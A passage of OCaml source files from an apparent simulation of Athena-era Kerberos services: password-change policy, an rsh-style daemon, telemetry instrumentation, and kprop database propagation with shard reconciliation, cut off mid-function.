          ~client:(Kerberos.Principal.user ~realm:client.Kerberos.Principal.realm user)
          (Bytes.of_string inner)
      end
      else reply "ERR host not trusted"
  | _ -> reply "ERR bad command"

let install ?config ?(trusted_hosts = []) net host ~profile ~principal ~key ~port =
  let t =
    { store = Hashtbl.create 16; trusted_hosts; deleted = []; log = []; ap = None }
  in
  let ap =
    Kerberos.Apserver.install ?config net host ~profile ~principal ~key ~port
      ~handler:(Svc_telemetry.instrument net ~component:"fileserver" (handle t)) ()
  in
  t.ap <- Some ap;
  t
