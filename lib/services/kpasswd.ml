open Kerberos

type t = {
  db : Kdb.t;
  enforce_quality : bool;
  mutable applied : int;
  mutable refused : int;
}

let changes_applied t = t.applied
let changes_refused t = t.refused

(* The policy of the era's proactive checkers: no bare dictionary words or
   their trivial decorations, and a minimum length. *)
let acceptable password =
  let lowered = String.lowercase_ascii password in
  let strip_digits s =
    let n = String.length s in
    let rec core i = if i > 0 && s.[i - 1] >= '0' && s.[i - 1] <= '9' then core (i - 1) else i in
    String.sub s 0 (core n)
  in
  let stem = strip_digits lowered in
  String.length password >= 8
  && not
       (Array.exists
          (fun w -> w = lowered || w = stem)
          Workloads.Passwords.dictionary)

let handle t _session ~client data =
  let s = Bytes.to_string data in
  let reply m = Some (Bytes.of_string m) in
  match String.index_opt s ' ' with
  | Some i when String.sub s 0 i = "CHANGE" ->
      let newpw = String.sub s (i + 1) (String.length s - i - 1) in
      if t.enforce_quality && not (acceptable newpw) then begin
        t.refused <- t.refused + 1;
        reply "ERR password rejected by policy (dictionary word or too short)"
      end
      else begin
        Kdb.add_user t.db client ~password:newpw;
        t.applied <- t.applied + 1;
        reply "OK"
      end
  | _ -> reply "ERR bad command"

let install ?config ?(enforce_quality = true) net host ~profile ~principal ~key
    ~port ~db =
  let t = { db; enforce_quality; applied = 0; refused = 0 } in
  let (_ : Apserver.t) =
    Apserver.install ?config net host ~profile ~principal ~key ~port
      ~handler:(Svc_telemetry.instrument net ~component:"kpasswd" (handle t)) ()
  in
  t

let change_password client chan ~new_password ~k =
  Client.call_priv client chan (Bytes.of_string ("CHANGE " ^ new_password))
    ~k:(fun r ->
      match r with
      | Error e -> k (Error e)
      | Ok data ->
          if Bytes.to_string data = "OK" then k (Ok ())
          else k (Error (Bytes.to_string data)))
