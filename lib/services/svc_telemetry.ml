(* Shared handler instrumentation for the application services: every
   command processed over an established session bumps a per-service
   counter and leaves a trace event naming the client and the command
   verb. The services stay telemetry-free themselves; install wraps their
   handler with this. *)

let verb data =
  let s = Bytes.to_string data in
  let upto = match String.index_opt s ' ' with Some i -> i | None -> String.length s in
  let v = String.sub s 0 (min upto 24) in
  if String.for_all (fun c -> c >= ' ' && c < '\x7f') v then v else "<binary>"

let instrument net ~component handler =
  let tel = Sim.Net.telemetry net in
  let m = Telemetry.Collector.metrics tel in
  let c_cmds =
    Telemetry.Metrics.counter m
      (Telemetry.Metrics.fresh_name m ("svc." ^ component ^ ".commands"))
  in
  fun session ~client data ->
    Telemetry.Metrics.incr c_cmds;
    Telemetry.Collector.event tel ~component ~kind:"svc.command"
      [ ("client", Kerberos.Principal.to_string client); ("cmd", verb data) ];
    handler session ~client data
