open Kerberos

type conn_state =
  | Want_ap_req
  | Want_challenge_resp of { ticket : Messages.ticket; nonce : int64 }
  | Authenticated of Principal.t

type t = {
  net : Sim.Net.t;
  profile : Profile.t;
  principal : Principal.t;
  key : bytes;
  config : Apserver.config;
  rng : Util.Rng.t;
  mutable executed : (string * string) list;
}

let executed t = t.executed

let handle_conn t conn =
  let state = ref Want_ap_req in
  Sim.Tcpish.on_data conn (fun data ->
      match !state with
      | Want_ap_req -> (
          match Frames.unwrap data with
          | Some (kind, payload) when kind = Frames.ap_req -> (
              match
                Messages.ap_req_of_value
                  (Wire.Encoding.decode t.profile.Profile.encoding payload)
              with
              | exception Wire.Codec.Decode_error _ -> Sim.Tcpish.close conn
              | r -> (
                  let src_addr = fst (Sim.Tcpish.peer conn) in
                  (* The rsh daemon has no reliable clock service of its own
                     in this model; it uses true time like other hosts. *)
                  let now = Sim.Net.now t.net in
                  match
                    Ap_check.validate_ticket ~profile:t.profile ~service_key:t.key
                      ~principal:t.principal ~now ~src_addr
                      ~accept_forwarded:t.config.Apserver.accept_forwarded
                      ~trusted_transit:t.config.Apserver.trusted_transit
                      ~refuse_dup_skey:t.config.Apserver.refuse_dup_skey r.r_ticket
                  with
                  | Error _ -> Sim.Tcpish.close conn
                  | Ok ticket -> (
                      match t.profile.Profile.ap_auth with
                      | Profile.Timestamp { skew; _ } -> (
                          match
                            Ap_check.validate_authenticator ~profile:t.profile
                              ~ticket ~ticket_blob:r.r_ticket ~principal:t.principal
                              ~now ~skew ~cache:None r.r_authenticator
                          with
                          | Error _ -> Sim.Tcpish.close conn
                          | Ok _auth ->
                              state := Authenticated ticket.Messages.client;
                              Sim.Tcpish.send conn (Frames.wrap Frames.ap_ok Bytes.empty))
                      | Profile.Challenge_response ->
                          let nonce = Util.Rng.next_int64 t.rng in
                          state := Want_challenge_resp { ticket; nonce };
                          let body =
                            Messages.seal_msg t.profile t.rng
                              ~key:ticket.Messages.session_key
                              ~tag:Messages.tag_challenge
                              (Messages.challenge_to_value
                                 { Messages.c_nonce = nonce; c_server_part = None;
                                   c_seq_init = None })
                          in
                          Sim.Tcpish.send conn (Frames.wrap Frames.challenge body))))
          | _ -> Sim.Tcpish.close conn)
      | Want_challenge_resp { ticket; nonce } -> (
          match Frames.unwrap data with
          | Some (kind, payload) when kind = Frames.challenge_resp -> (
              match
                Messages.open_msg t.profile ~key:ticket.Messages.session_key
                  ~tag:Messages.tag_challenge_resp payload
              with
              | Error _ -> Sim.Tcpish.close conn
              | Ok v -> (
                  match Messages.challenge_resp_of_value v with
                  | exception Wire.Codec.Decode_error _ -> Sim.Tcpish.close conn
                  | resp ->
                      if resp.cr_nonce_f = Int64.add nonce 1L then begin
                        state := Authenticated ticket.Messages.client;
                        Sim.Tcpish.send conn (Frames.wrap Frames.ap_ok Bytes.empty)
                      end
                      else Sim.Tcpish.close conn))
          | _ -> Sim.Tcpish.close conn)
      | Authenticated who ->
          let cmd = Bytes.to_string data in
          t.executed <- (cmd, Principal.to_string who) :: t.executed;
          Sim.Tcpish.send conn (Bytes.of_string ("ran: " ^ cmd)))

let install net host ~profile ~principal ~key ~port ?(isn = Sim.Tcpish.Random_isn)
    ?(config = Apserver.default_config) () =
  let t =
    { net; profile; principal; key; config; rng = Util.Rng.create 0x525348L;
      executed = [] }
  in
  Sim.Tcpish.listen net host ~port ~isn ~on_accept:(fun conn -> handle_conn t conn) ();
  t

let run_command client (creds : Client.credentials) ~dst ~dport ~cmd ~k =
  let net = Client.net client in
  let profile = Client.client_profile client in
  ignore
  @@ Sim.Tcpish.connect net (Client.host client) ~dst ~dport
    ~on_connected:(fun conn ->
      let stage = ref `Auth in
      Sim.Tcpish.on_data conn (fun data ->
          match (!stage, Frames.unwrap data) with
          | `Auth, Some (kind, payload) when kind = Frames.challenge -> (
              match
                Messages.open_msg profile ~key:creds.Client.session_key
                  ~tag:Messages.tag_challenge payload
              with
              | Error e -> k (Error e)
              | Ok v -> (
                  match Messages.challenge_of_value v with
                  | exception Wire.Codec.Decode_error e -> k (Error e)
                  | ch ->
                      let resp =
                        Messages.seal_msg profile (Client.client_rng client)
                          ~key:creds.Client.session_key
                          ~tag:Messages.tag_challenge_resp
                          (Messages.challenge_resp_to_value
                             { Messages.cr_nonce_f = Int64.add ch.c_nonce 1L;
                               cr_client_part = None; cr_seq_init = None })
                      in
                      Sim.Tcpish.send conn (Frames.wrap Frames.challenge_resp resp)))
          | `Auth, Some (kind, _) when kind = Frames.ap_ok ->
              stage := `Ran;
              Sim.Tcpish.send conn (Bytes.of_string cmd)
          | `Ran, _ -> k (Ok (Bytes.to_string data))
          | _ -> k (Error "rsh: unexpected server message"));
      (* First segment: the AP_REQ. Under challenge/response profiles the
         authenticator is absent; under timestamp profiles it is required. *)
      let authenticator =
        match profile.Profile.ap_auth with
        | Profile.Challenge_response -> Bytes.empty
        | Profile.Timestamp _ ->
            let now = Sim.Net.local_time net (Client.host client) in
            let auth, _, _ = Client.build_authenticator client creds ~now () in
            Client.seal_authenticator client creds auth
      in
      let ap =
        { Messages.r_ticket = creds.Client.ticket; r_authenticator = authenticator;
          r_mutual = false }
      in
      Sim.Tcpish.send conn
        (Frames.wrap Frames.ap_req
           (Messages.encode_msg profile ~tag:Messages.tag_ap_req
              (Messages.ap_req_to_value ap))))
    ()
