(** Master→slave KDC database propagation (kprop/kpropd), the replication
    machinery Project Athena ran so workstations always had a reachable
    KDC.

    The dump carries every key in the realm, so it travels only over
    KRB_PRIV, authenticated as the master's own principal — and the slave
    daemon refuses pushes from anyone else. (The master host itself is the
    one machine the paper exempts from its skepticism: "the Kerberos master
    server, for which strong physical security must be assumed in any
    event.") *)

type t

val install_slave :
  ?config:Kerberos.Apserver.config ->
  Sim.Net.t ->
  Sim.Host.t ->
  profile:Kerberos.Profile.t ->
  principal:Kerberos.Principal.t ->
  key:bytes ->
  port:int ->
  master:Kerberos.Principal.t ->
  slave_db:Kerberos.Kdb.t ->
  t
(** The kpropd daemon: accepts dumps only from [master], installs them
    into [slave_db] (which a slave {!Kerberos.Kdc.t} serves from). *)

val propagations_received : t -> int
val pushes_refused : t -> int

val propagate :
  ?deadline:float ->
  Kerberos.Client.t ->
  Kerberos.Client.channel ->
  db:Kerberos.Kdb.t ->
  k:((unit, string) result -> unit) ->
  unit
(** Master side: dump [db] and push it over the channel. [deadline]
    bounds the wait for the slave's acknowledgement (default: forever). *)

val propagate_with_retry :
  ?attempts:int ->
  ?deadline:float ->
  ?pause:float ->
  Kerberos.Client.t ->
  Kerberos.Client.channel ->
  db:Kerberos.Kdb.t ->
  k:((unit, string) result -> unit) ->
  unit
(** {!propagate} up to [attempts] times (default 3), each bounded by
    [deadline] seconds (default 2.0) and spaced [pause] seconds apart
    (default 1.0) — the re-propagation loop that repairs a slave stranded
    behind a partition once the network heals. *)
