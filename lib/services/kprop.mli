(** Master→slave KDC database propagation (kprop/kpropd), the replication
    machinery Project Athena ran so workstations always had a reachable
    KDC.

    The dump carries every key in the realm, so it travels only over
    KRB_PRIV, authenticated as the master's own principal — and the slave
    daemon refuses pushes from anyone else. (The master host itself is the
    one machine the paper exempts from its skepticism: "the Kerberos master
    server, for which strong physical security must be assumed in any
    event.") *)

type t

val install_slave :
  ?config:Kerberos.Apserver.config ->
  Sim.Net.t ->
  Sim.Host.t ->
  profile:Kerberos.Profile.t ->
  principal:Kerberos.Principal.t ->
  key:bytes ->
  port:int ->
  master:Kerberos.Principal.t ->
  slave_db:Kerberos.Kdb.t ->
  t
(** The kpropd daemon: accepts dumps only from [master], installs them
    into [slave_db] (which a slave {!Kerberos.Kdc.t} serves from). *)

val propagations_received : t -> int
(** Full-database pushes installed. *)

val pushes_refused : t -> int
(** Pushes refused because the pusher was not [master]. *)

val shard_propagations_received : t -> int
(** Single-shard pushes installed (see {!propagate_shard}). *)

val propagate :
  ?deadline:float ->
  Kerberos.Client.t ->
  Kerberos.Client.channel ->
  db:Kerberos.Kdb.t ->
  k:((unit, string) result -> unit) ->
  unit
(** Master side: dump [db] and push it over the channel. [deadline]
    bounds the wait for the slave's acknowledgement (default: forever). *)

val propagate_shard :
  ?deadline:float ->
  Kerberos.Client.t ->
  Kerberos.Client.channel ->
  db:Kerberos.Kdb.t ->
  shard:int ->
  k:((unit, string) result -> unit) ->
  unit
(** Push one shard of [db]. The message carries the master's shard count;
    a slave partitioned differently refuses the push rather than
    scattering entries into the wrong shards, and the slave installs the
    shard atomically (a corrupted or truncated push leaves the previous
    shard contents in place). *)

val propagate_shards :
  ?deadline:float ->
  Kerberos.Client.t ->
  Kerberos.Client.channel ->
  db:Kerberos.Kdb.t ->
  k:((unit, string) result -> unit) ->
  unit
(** Incremental propagation: push every shard of [db] in turn, stopping
    at the first failure (reported as ["shard <i>: <reason>"]). A realm
    with a large database never ships it in one message, and a sequence
    interrupted partway leaves the slave with whole shards from the old
    and new dumps — consistent per principal, never torn. *)

val propagate_with_retry :
  ?attempts:int ->
  ?deadline:float ->
  ?pause:float ->
  Kerberos.Client.t ->
  Kerberos.Client.channel ->
  db:Kerberos.Kdb.t ->
  k:((unit, string) result -> unit) ->
  unit
(** {!propagate} up to [attempts] times (default 3), each bounded by
    [deadline] seconds (default 2.0) and spaced [pause] seconds apart
    (default 1.0) — the re-propagation loop that repairs a slave stranded
    behind a partition once the network heals. *)

(** {2 Anti-entropy reconciliation}

    After a partition heals, two replicas of one realm may have diverged:
    each kept serving and mutating its own copy. Reconciliation exchanges
    per-shard [(version, digest)] vectors (the versions are the
    database's monotonic mutation counters, the digests CRC-32 over the
    deterministic sorted shard dumps) and transfers {e only} the shards
    whose digests differ — the winner decided by a deterministic
    last-writer-wins rule: higher version wins, a version tie breaks to
    the smaller digest. Every shard install increments the
    [kprop.reconciled.<shard>] counter on the installing side. *)

type reconcile_report = {
  examined : int;  (** shards compared (the full vector) *)
  pulled : int;    (** divergent shards the peer won — installed locally *)
  pushed : int;    (** divergent shards we won — installed on the peer *)
}

val reconcile :
  ?deadline:float ->
  Kerberos.Client.t ->
  Kerberos.Client.channel ->
  db:Kerberos.Kdb.t ->
  k:((reconcile_report, string) result -> unit) ->
  unit
(** Reconcile the local [db] with the replica behind [chan] (a channel to
    its kpropd, authenticated as the master principal). Pulls adopt the
    peer's shard {e and} version; pushes carry ours, so after a clean run
    both replicas hold identical digests and version vectors for every
    previously divergent shard. *)

val reconciliations : t -> int
(** Versioned shard installs this daemon accepted (pushes from a
    reconciling peer). *)
