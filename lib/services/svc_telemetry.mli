(** Handler wrapper the services install with: counts commands in the
    registry (["svc.<component>.commands"], [fresh_name]-suffixed per
    instance) and traces each one with the client principal and command
    verb. *)

val instrument :
  Sim.Net.t ->
  component:string ->
  (Kerberos.Session.t -> client:Kerberos.Principal.t -> bytes -> bytes option) ->
  Kerberos.Session.t ->
  client:Kerberos.Principal.t ->
  bytes ->
  bytes option
