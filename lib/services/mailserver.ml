type t = {
  boxes : (string, bytes list ref) Hashtbl.t;
  deleted : (string, int ref) Hashtbl.t;
  mutable ap : Kerberos.Apserver.t option;
}

let apserver t = match t.ap with Some a -> a | None -> assert false

let box t user =
  match Hashtbl.find_opt t.boxes user with
  | Some b -> b
  | None ->
      let b = ref [] in
      Hashtbl.replace t.boxes user b;
      b

let deliver t ~user msg =
  let b = box t user in
  b := !b @ [ msg ]

let mailbox_count t ~user = List.length !(box t user)

let deleted_count t ~user =
  match Hashtbl.find_opt t.deleted user with Some r -> !r | None -> 0

let split_cmd s =
  match String.index_opt s ' ' with
  | None -> (s, "")
  | Some i -> (String.sub s 0 i, String.sub s (i + 1) (String.length s - i - 1))

let handle t _session ~client data =
  let user = (client : Kerberos.Principal.t).Kerberos.Principal.name in
  let cmd, rest = split_cmd (Bytes.to_string data) in
  let reply s = Some (Bytes.of_string s) in
  match cmd with
  | "SEND" ->
      let rcpt, body = split_cmd rest in
      deliver t ~user:rcpt (Bytes.of_string body);
      reply "OK"
  | "COUNT" -> reply (string_of_int (mailbox_count t ~user))
  | "RETR" -> (
      let b = box t user in
      match List.nth_opt !b (int_of_string_opt rest |> Option.value ~default:(-1)) with
      | Some msg -> Some msg (* raw bytes, nothing prepended *)
      | None -> reply "ERR no such message")
  | "DELE" -> (
      let b = box t user in
      let n = int_of_string_opt rest |> Option.value ~default:(-1) in
      match List.nth_opt !b n with
      | Some _ ->
          b := List.filteri (fun i _ -> i <> n) !b;
          let r =
            match Hashtbl.find_opt t.deleted user with
            | Some r -> r
            | None ->
                let r = ref 0 in
                Hashtbl.replace t.deleted user r;
                r
          in
          incr r;
          reply "OK"
      | None -> reply "ERR no such message")
  | _ -> reply "ERR bad command"

let install ?config net host ~profile ~principal ~key ~port =
  let t = { boxes = Hashtbl.create 8; deleted = Hashtbl.create 8; ap = None } in
  let ap =
    Kerberos.Apserver.install ?config net host ~profile ~principal ~key ~port
      ~handler:(Svc_telemetry.instrument net ~component:"mailserver" (handle t)) ()
  in
  t.ap <- Some ap;
  t
