open Kerberos

type t = {
  master : Principal.t;
  slave_db : Kdb.t;
  mutable received : int;
  mutable refused : int;
  mutable shards_received : int;
}

let propagations_received t = t.received
let pushes_refused t = t.refused
let shard_propagations_received t = t.shards_received

(* "SHRD " payload: shard index, sender's shard count, shard dump. The
   count travels with every push so a mis-configured pair (master and
   slave partitioned differently) is refused instead of scattering
   entries into the wrong shards. *)
let shard_msg ~db ~shard =
  let w = Wire.Codec.Writer.create () in
  Wire.Codec.Writer.u32 w shard;
  Wire.Codec.Writer.u32 w (Kdb.shard_count db);
  Wire.Codec.Writer.lbytes w (Kdb.shard_to_bytes db shard);
  Bytes.cat (Bytes.of_string "SHRD ") (Wire.Codec.Writer.contents w)

let handle_shard t data =
  match
    let r = Wire.Codec.Reader.of_bytes data in
    let idx = Wire.Codec.Reader.u32 r in
    let count = Wire.Codec.Reader.u32 r in
    let blob = Wire.Codec.Reader.lbytes r in
    Wire.Codec.Reader.expect_end r;
    (idx, count, blob)
  with
  | exception Wire.Codec.Decode_error e -> "ERR " ^ e
  | idx, count, blob ->
      if count <> Kdb.shard_count t.slave_db then
        Printf.sprintf "ERR shard count mismatch (master %d, slave %d)" count
          (Kdb.shard_count t.slave_db)
      else if idx < 0 || idx >= count then
        Printf.sprintf "ERR shard index %d out of range" idx
      else (
        (* Atomic per shard: a decode error leaves the shard untouched. *)
        match Kdb.replace_shard_from_bytes t.slave_db idx blob with
        | () ->
            t.shards_received <- t.shards_received + 1;
            "OK"
        | exception Wire.Codec.Decode_error e -> "ERR " ^ e)

let handle t _session ~client data =
  let reply m = Some (Bytes.of_string m) in
  if not (Principal.equal client t.master) then begin
    t.refused <- t.refused + 1;
    reply "ERR only the master propagates"
  end
  else if Bytes.length data > 5 && Bytes.to_string (Bytes.sub data 0 5) = "PROP " then begin
    match Kdb.of_bytes (Bytes.sub data 5 (Bytes.length data - 5)) with
    | db ->
        Kdb.replace_from t.slave_db db;
        t.received <- t.received + 1;
        reply "OK"
    | exception Wire.Codec.Decode_error e -> reply ("ERR " ^ e)
  end
  else if Bytes.length data > 5 && Bytes.to_string (Bytes.sub data 0 5) = "SHRD " then
    reply (handle_shard t (Bytes.sub data 5 (Bytes.length data - 5)))
  else reply "ERR bad command"

let install_slave ?config net host ~profile ~principal ~key ~port ~master ~slave_db =
  let t = { master; slave_db; received = 0; refused = 0; shards_received = 0 } in
  let (_ : Apserver.t) =
    Apserver.install ?config net host ~profile ~principal ~key ~port
      ~handler:(Svc_telemetry.instrument net ~component:"kprop" (handle t)) ()
  in
  t

let expect_ok ~k r =
  match r with
  | Error e -> k (Error e)
  | Ok data ->
      if Bytes.to_string data = "OK" then k (Ok ())
      else k (Error (Bytes.to_string data))

let propagate ?deadline client chan ~db ~k =
  let msg = Bytes.cat (Bytes.of_string "PROP ") (Kdb.to_bytes db) in
  Client.call_priv client chan ?deadline msg ~k:(expect_ok ~k)

let propagate_shard ?deadline client chan ~db ~shard ~k =
  Client.call_priv client chan ?deadline (shard_msg ~db ~shard) ~k:(expect_ok ~k)

(* Incremental propagation pushes the shards one at a time, so a realm of
   "a fairly large user community" never ships its whole database in one
   message — and a push interrupted mid-sequence leaves the slave with
   whole shards from the old and new dumps, never a torn shard. *)
let propagate_shards ?deadline client chan ~db ~k =
  let n = Kdb.shard_count db in
  let rec go i =
    if i >= n then k (Ok ())
    else
      propagate_shard ?deadline client chan ~db ~shard:i ~k:(function
        | Ok () -> go (i + 1)
        | Error e -> k (Error (Printf.sprintf "shard %d: %s" i e)))
  in
  go 0

(* A slave cut off by a partition misses pushes; the master's kprop job
   just runs again. Each attempt is bounded by [deadline] so a dump
   swallowed by the dead link fails over to the next try instead of
   parking the master forever; [pause] spaces the attempts out so a heal
   mid-schedule gets a chance to matter. *)
let propagate_with_retry ?(attempts = 3) ?(deadline = 2.0) ?(pause = 1.0) client
    chan ~db ~k =
  let eng = Sim.Net.engine (Client.net client) in
  let rec go n =
    propagate ~deadline client chan ~db ~k:(fun r ->
        match r with
        | Ok () -> k (Ok ())
        | Error e ->
            if n + 1 < attempts then Sim.Engine.schedule_after eng pause (fun () -> go (n + 1))
            else k (Error e))
  in
  if attempts <= 0 then k (Error "kprop: no attempts configured") else go 0
