open Kerberos

type t = {
  master : Principal.t;
  slave_db : Kdb.t;
  metrics : Telemetry.Metrics.t;
  mutable received : int;
  mutable refused : int;
  mutable shards_received : int;
  mutable reconciled : int;
}

let propagations_received t = t.received
let pushes_refused t = t.refused
let shard_propagations_received t = t.shards_received
let reconciliations t = t.reconciled

(* One counter per shard index, shared by name across the daemons of a
   net: how many times anti-entropy had to install that shard. *)
let note_reconciled metrics shard =
  Telemetry.Metrics.incr
    (Telemetry.Metrics.counter metrics (Printf.sprintf "kprop.reconciled.%d" shard))

(* "SHRD " payload: shard index, sender's shard count, shard dump. The
   count travels with every push so a mis-configured pair (master and
   slave partitioned differently) is refused instead of scattering
   entries into the wrong shards. *)
let shard_msg ~db ~shard =
  let w = Wire.Codec.Writer.create () in
  Wire.Codec.Writer.u32 w shard;
  Wire.Codec.Writer.u32 w (Kdb.shard_count db);
  Wire.Codec.Writer.lbytes w (Kdb.shard_to_bytes db shard);
  Bytes.cat (Bytes.of_string "SHRD ") (Wire.Codec.Writer.contents w)

let handle_shard t data =
  match
    let r = Wire.Codec.Reader.of_bytes data in
    let idx = Wire.Codec.Reader.u32 r in
    let count = Wire.Codec.Reader.u32 r in
    let blob = Wire.Codec.Reader.lbytes r in
    Wire.Codec.Reader.expect_end r;
    (idx, count, blob)
  with
  | exception Wire.Codec.Decode_error e -> "ERR " ^ e
  | idx, count, blob ->
      if count <> Kdb.shard_count t.slave_db then
        Printf.sprintf "ERR shard count mismatch (master %d, slave %d)" count
          (Kdb.shard_count t.slave_db)
      else if idx < 0 || idx >= count then
        Printf.sprintf "ERR shard index %d out of range" idx
      else (
        (* Atomic per shard: a decode error leaves the shard untouched. *)
        match Kdb.replace_shard_from_bytes t.slave_db idx blob with
        | () ->
            t.shards_received <- t.shards_received + 1;
            "OK"
        | exception Wire.Codec.Decode_error e -> "ERR " ^ e)

(* --- Anti-entropy reconciliation ----------------------------------- *)

(* "DIG" reply payload: per shard, the version counter and the CRC-32
   digest of the sorted shard dump. Equal digests mean byte-identical
   contents; the versions decide who wins when they differ. *)
let digests_msg db =
  let w = Wire.Codec.Writer.create () in
  let n = Kdb.shard_count db in
  Wire.Codec.Writer.u32 w n;
  let versions = Kdb.version_vector db in
  for i = 0 to n - 1 do
    Wire.Codec.Writer.i64 w (Int64.of_int versions.(i));
    Wire.Codec.Writer.u32 w (Kdb.shard_digest db i)
  done;
  Bytes.cat (Bytes.of_string "DIG ") (Wire.Codec.Writer.contents w)

let parse_digests data =
  let r = Wire.Codec.Reader.of_bytes data in
  let n = Wire.Codec.Reader.u32 r in
  if n < 1 || n > 65536 then Wire.Codec.fail "kprop: bad digest count";
  let out =
    Array.init n (fun _ ->
        let v = Int64.to_int (Wire.Codec.Reader.i64 r) in
        let d = Wire.Codec.Reader.u32 r in
        (v, d))
  in
  Wire.Codec.Reader.expect_end r;
  out

(* "SHD" reply / "SHDV" push payload: shard index, shard count, version,
   dump — a versioned variant of the plain "SHRD" push, so the installing
   side adopts the winner's version instead of minting a new one. *)
let versioned_shard_msg ~db ~shard ~version =
  let w = Wire.Codec.Writer.create () in
  Wire.Codec.Writer.u32 w shard;
  Wire.Codec.Writer.u32 w (Kdb.shard_count db);
  Wire.Codec.Writer.i64 w (Int64.of_int version);
  Wire.Codec.Writer.lbytes w (Kdb.shard_to_bytes db shard);
  Wire.Codec.Writer.contents w

let parse_versioned_shard data =
  let r = Wire.Codec.Reader.of_bytes data in
  let idx = Wire.Codec.Reader.u32 r in
  let count = Wire.Codec.Reader.u32 r in
  let version = Int64.to_int (Wire.Codec.Reader.i64 r) in
  let blob = Wire.Codec.Reader.lbytes r in
  Wire.Codec.Reader.expect_end r;
  (idx, count, version, blob)

let install_versioned t ~idx ~count ~version ~blob =
  if count <> Kdb.shard_count t.slave_db then
    Printf.sprintf "ERR shard count mismatch (peer %d, local %d)" count
      (Kdb.shard_count t.slave_db)
  else if idx < 0 || idx >= count then
    Printf.sprintf "ERR shard index %d out of range" idx
  else
    match Kdb.replace_shard_from_bytes ~version t.slave_db idx blob with
    | () ->
        t.reconciled <- t.reconciled + 1;
        note_reconciled t.metrics idx;
        "OK"
    | exception Wire.Codec.Decode_error e -> "ERR " ^ e

let handle_pull t data =
  match
    let r = Wire.Codec.Reader.of_bytes data in
    let idx = Wire.Codec.Reader.u32 r in
    Wire.Codec.Reader.expect_end r;
    idx
  with
  | exception Wire.Codec.Decode_error e -> Bytes.of_string ("ERR " ^ e)
  | idx ->
      if idx < 0 || idx >= Kdb.shard_count t.slave_db then
        Bytes.of_string (Printf.sprintf "ERR shard index %d out of range" idx)
      else
        Bytes.cat (Bytes.of_string "SHD ")
          (versioned_shard_msg ~db:t.slave_db ~shard:idx
             ~version:(Kdb.version_vector t.slave_db).(idx))

let handle t _session ~client data =
  let reply m = Some (Bytes.of_string m) in
  let has_prefix p =
    let n = String.length p in
    Bytes.length data > n && Bytes.to_string (Bytes.sub data 0 n) = p
  in
  let body n = Bytes.sub data n (Bytes.length data - n) in
  if not (Principal.equal client t.master) then begin
    t.refused <- t.refused + 1;
    reply "ERR only the master propagates"
  end
  else if has_prefix "PROP " then begin
    match Kdb.of_bytes (body 5) with
    | db ->
        Kdb.replace_from t.slave_db db;
        t.received <- t.received + 1;
        reply "OK"
    | exception Wire.Codec.Decode_error e -> reply ("ERR " ^ e)
  end
  else if has_prefix "SHRD " then reply (handle_shard t (body 5))
  else if Bytes.to_string data = "DIGQ" then Some (digests_msg t.slave_db)
  else if has_prefix "PULL " then Some (handle_pull t (body 5))
  else if has_prefix "SHDV " then begin
    match parse_versioned_shard (body 5) with
    | exception Wire.Codec.Decode_error e -> reply ("ERR " ^ e)
    | idx, count, version, blob ->
        reply (install_versioned t ~idx ~count ~version ~blob)
  end
  else reply "ERR bad command"

let install_slave ?config net host ~profile ~principal ~key ~port ~master ~slave_db =
  let t =
    { master; slave_db;
      metrics = Telemetry.Collector.metrics (Sim.Net.telemetry net);
      received = 0; refused = 0; shards_received = 0; reconciled = 0 }
  in
  let (_ : Apserver.t) =
    Apserver.install ?config net host ~profile ~principal ~key ~port
      ~handler:(Svc_telemetry.instrument net ~component:"kprop" (handle t)) ()
  in
  t

let expect_ok ~k r =
  match r with
  | Error e -> k (Error e)
  | Ok data ->
      if Bytes.to_string data = "OK" then k (Ok ())
      else k (Error (Bytes.to_string data))

let propagate ?deadline client chan ~db ~k =
  let msg = Bytes.cat (Bytes.of_string "PROP ") (Kdb.to_bytes db) in
  Client.call_priv client chan ?deadline msg ~k:(expect_ok ~k)

let propagate_shard ?deadline client chan ~db ~shard ~k =
  Client.call_priv client chan ?deadline (shard_msg ~db ~shard) ~k:(expect_ok ~k)

(* Incremental propagation pushes the shards one at a time, so a realm of
   "a fairly large user community" never ships its whole database in one
   message — and a push interrupted mid-sequence leaves the slave with
   whole shards from the old and new dumps, never a torn shard. *)
let propagate_shards ?deadline client chan ~db ~k =
  let n = Kdb.shard_count db in
  let rec go i =
    if i >= n then k (Ok ())
    else
      propagate_shard ?deadline client chan ~db ~shard:i ~k:(function
        | Ok () -> go (i + 1)
        | Error e -> k (Error (Printf.sprintf "shard %d: %s" i e)))
  in
  go 0

(* A slave cut off by a partition misses pushes; the master's kprop job
   just runs again. Each attempt is bounded by [deadline] so a dump
   swallowed by the dead link fails over to the next try instead of
   parking the master forever; [pause] spaces the attempts out so a heal
   mid-schedule gets a chance to matter. *)
let propagate_with_retry ?(attempts = 3) ?(deadline = 2.0) ?(pause = 1.0) client
    chan ~db ~k =
  let eng = Sim.Net.engine (Client.net client) in
  let rec go n =
    propagate ~deadline client chan ~db ~k:(fun r ->
        match r with
        | Ok () -> k (Ok ())
        | Error e ->
            if n + 1 < attempts then Sim.Engine.schedule_after eng pause (fun () -> go (n + 1))
            else k (Error e))
  in
  if attempts <= 0 then k (Error "kprop: no attempts configured") else go 0

(* --- Reconcile (client side) ---------------------------------------- *)

type reconcile_report = { examined : int; pulled : int; pushed : int }

(* The deterministic last-writer-wins rule: the higher per-shard version
   wins; a version tie with differing contents (two replicas each took
   exactly one mutation while partitioned) breaks to the smaller digest.
   Both replicas evaluate the same rule on the same two (version, digest)
   pairs, so they always agree on the winner without coordination. *)
let peer_wins ~peer:(pv, pd) ~local:(lv, ld) =
  pv > lv || (pv = lv && pd < ld)

let strip_reply ~prefix data =
  let n = String.length prefix in
  if Bytes.length data >= n && Bytes.to_string (Bytes.sub data 0 n) = prefix
  then Ok (Bytes.sub data n (Bytes.length data - n))
  else if Bytes.length data >= 3 && Bytes.to_string (Bytes.sub data 0 3) = "ERR"
  then Error (Bytes.to_string data)
  else Error ("kprop: unexpected reply to " ^ String.trim prefix)

let reconcile ?deadline client chan ~db ~k =
  let metrics =
    Telemetry.Collector.metrics (Sim.Net.telemetry (Client.net client))
  in
  Client.call_priv client chan ?deadline (Bytes.of_string "DIGQ") ~k:(fun r ->
      match Result.bind r (strip_reply ~prefix:"DIG ") with
      | Error e -> k (Error e)
      | Ok payload -> (
          match parse_digests payload with
          | exception Wire.Codec.Decode_error e -> k (Error e)
          | peer ->
              let n = Kdb.shard_count db in
              if Array.length peer <> n then
                k
                  (Error
                     (Printf.sprintf
                        "kprop: shard count mismatch (peer %d, local %d)"
                        (Array.length peer) n))
              else begin
                let pulled = ref 0 and pushed = ref 0 in
                let pull i ~version:_ ~next =
